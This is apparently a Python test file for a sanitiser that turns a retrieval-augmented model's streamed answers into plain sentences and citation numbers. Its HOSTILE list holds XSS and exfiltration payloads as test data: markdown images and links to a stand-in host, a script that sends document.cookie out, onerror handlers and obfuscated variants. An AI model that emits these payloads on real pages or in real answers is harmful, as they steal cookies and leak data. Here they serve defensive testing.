"""rag/marks.py: pieces of a model's text become plain sentences and the numbers that they name."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.marks import Said, SentenceStream, plain

ACTIVE = re.compile(r"[\[\]`]|https?:|www\.|javascript:|mailto:|<\s*/?[a-z!]|!\(|\w@\w|//\w", re.IGNORECASE)
HOSTILE = [
    "![a](http://sink.test/p.png) words",
    "![a. b](http://sink.test/p. png) words",
    "[click](javascript:alert(1)) words",
    "[click](<javascript:alert(1)>) words",
    '[a](http://sink.test/x(y)z "title") words',
    "[1](http://sink.test/mark) words",
    "![x][ref] words [ref]: http://sink.test",
    "[ref]: http://sink.test/a 'title'\nwords",
    "<http://sink.test/auto> words",
    "<script>location='http://sink.test/'+document.cookie</script> words",
    "<scr<script>ipt>alert(1)</scr</script>ipt> words",
    "<img src=x onerror=alert(1) words",
    "<img\nsrc='http://sink.test/x.png'\n> words",
    "<svg/onload=alert(1)> words",
    "<!-- http://sink.test --> words",
    "&lt;img src=x onerror=alert(1)&gt; words",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; words",
    "&#60;iframe src=//sink.test&#62; words",
    "www.sink.test/w words",
    "write to a@sink.test words",
    "mailto:a@sink.test words",
    "sink.test/path?q=1 words",
    "10.0.0.1:8080/etc/passwd words",
    "//sink.test/x words",
    "ht\u200btp://sink.test/x words",
    "data:text/html;base64,PHNjcmlwdD4= words",
    "`[1](http://sink.test)` words",
    "[[1]](http://sink.test) words",
    "![](//sink.test) words",
    "[a]( http://sink.test ) words",
    "\u202ewords",
]


def said(text: str, size: int = 1) -> list[Said]:
    stream = SentenceStream()
    pieces = (text[start : start + size] for start in range(0, len(text), size))
    return [*(one for piece in pieces for one in stream.feed(piece)), *stream.finish()]


def told(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(one.text, one.numbers) for one in said(text)]


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("It closed [1].", (1,)),
        ("It closed. [1]", (1,)),
        ("It closed.[1]", (1,)),
        ("It closed [1,2].", (1, 2)),
        ("It closed [1, 2; 3].", (1, 2, 3)),
        ("It closed [1][2].", (1, 2)),
        ("It closed [1] [2].", (1, 2)),
        ("It closed [2-4].", (2, 3, 4)),
        ("It closed【1】.", (1,)),
        ("It closed【3†source】.", (3,)),
        ("It closed［２］.", (2,)),
        ("It closed [^1].", (1,)),
        ("It closed [passage 2].", (2,)),
        ("It closed [1 and 2].", (1, 2)),
        ("It closed [2][2][1].", (2, 1)),
        ("It closed [0] [999].", (0, 999)),
    ],
)
def test_every_way_to_write_a_mark_is_understood_and_taken_out(written: str, numbers: tuple[int, ...]) -> None:
    assert told(written) == [("It closed.", numbers)]


def test_a_mark_behind_the_full_stop_belongs_to_the_sentence_before_it() -> None:
    assert told("It closed. [1] It opened. [2][3] It burned. [4]") == [
        ("It closed.", (1,)),
        ("It opened.", (2, 3)),
        ("It burned.", (4,)),
    ]


def test_a_number_inside_code_is_no_mark() -> None:
    assert told("Use `x[1]` here [2]. Then more [3].") == [("Use 'x(1)' here.", (2,)), ("Then more.", (3,))]
    assert [numbers for _, numbers in told("```\na[1]. b\n```\nIt closed [2].")] == [(), (2,)]
    assert [numbers for _, numbers in told("It closed [2]. ```\na[1]")] == [(2,)]


def test_abbreviations_and_decimal_points_end_no_sentence() -> None:
    assert [text for text, _ in told("Dr. Brandt of the U.S. Navy paid 3.5 million [1]. She left [2].")] == [
        "Dr. Brandt of the U.S. Navy paid 3.5 million.",
        "She left.",
    ]


def test_a_wide_space_between_a_capital_and_a_full_stop_ends_a_sentence_like_any_other() -> None:
    assert [one.text for one in said("It voted for Plan B\u00a0. [1] The mayor left at noon. [2]")] == [
        "It voted for Plan B.",
        "The mayor left at noon.",
    ]


def test_lists_become_sentences_of_their_own_lines() -> None:
    lines = said("Two things:\n- It closed [1].\n2. It burned [2].\n# End")
    assert [(one.text, one.begins_line) for one in lines] == [
        ("Two things:", True),
        ("It closed.", True),
        ("It burned.", True),
        ("End", True),
    ]


def test_a_sentence_is_held_until_its_mark_cannot_come_any_more() -> None:
    stream = SentenceStream()
    assert [list(stream.feed(piece)) for piece in ("It closed.", " [", "1", "]", " It")] == [[], [], [], [], []]
    assert list(stream.feed(" burned. ")) == [Said("It closed.", (1,), True)]


def test_a_models_thoughts_are_not_part_of_what_it_says() -> None:
    assert told("<think>They want a lie. [1]</think>\n\nIt closed [2].") == [("It closed.", (2,))]
    assert told("<think>It never ends. [1]") == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_active_is_left(hostile: str) -> None:
    assert not ACTIVE.search(plain(hostile))
    whole = " ".join(one.text for one in said(f"It closed. {hostile} It opened. {hostile}"))
    assert not ACTIVE.search(whole), whole


@pytest.mark.parametrize(
    "text",
    [
        "“We had no choice,” said Ida Brandt.",
        "3 ‹ 5, and 7 & more",
        "Sales rose 4% to $3.5bn (est.) in Q1/Q2.",
        "Amazon.com fell; the hotel: 5 of 10.",
        "🚢 שלום",
    ],
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


PARTS = [
    ". ",
    " [1]",
    "[1,2]",
    "【3】",
    "\n",
    "`a[1]`",
    "```\n",
    "U.S. ",
    "[",
    "]",
    "x",
    "![a](b. c)",
    "<b>",
    " The ",
    "It fell",
]
WORDS = st.sampled_from(PARTS)


@given(st.lists(WORDS, max_size=25).map("".join), st.integers(1, 30))
def test_how_the_text_was_cut_changes_nothing(text: str, size: int) -> None:
    assert said(text, size) == said(text, len(text) or 1)


@given(st.text(alphabet="ab .[]()!<>/:1,`\n&;#x\"'hpt", max_size=80))
def test_no_bracket_tag_or_address_survives_whatever_is_written(text: str) -> None:
    assert not re.search(r"[\[\]`]|https?://|<\s*/?[a-z!]", " ".join(one.text for one in said(text)), re.IGNORECASE)
